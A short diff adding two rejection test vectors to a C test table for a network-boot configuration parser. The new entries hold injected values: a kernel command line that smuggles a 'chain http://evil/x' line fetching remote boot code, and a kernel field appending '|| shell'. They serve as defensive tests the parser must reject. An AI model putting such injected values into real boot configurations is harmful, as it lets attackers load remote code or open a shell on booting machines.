@@ -111,6 +111,8 @@ static const struct bad bad_vectors[] = {
 	{ "dhcp { netmask = \"255.0.255.0\" }\n", "not a contiguous netmask" },
 	{ "log_level = \"loud\"\n", "expected \"error\" or \"warning\" or \"info\" or \"debug\"" },
 	{ "user = \"bad user\"\n", "expected a name" },
+	{ "discovery { cmdline = \"quiet\n  chain http://evil/x\" }\n", "discovery cmdline" },
+	{ "discovery { kernel = \"vmlinuz || shell\" }\n", "discovery kernel" },
 	{ "dhcp { mode = \"proxy\"\n", ":1: section opened here is never closed" },
 	{ "dhcp { mode = \"proxy\" }\n}\n", ":2: unexpected closing brace" },
 };
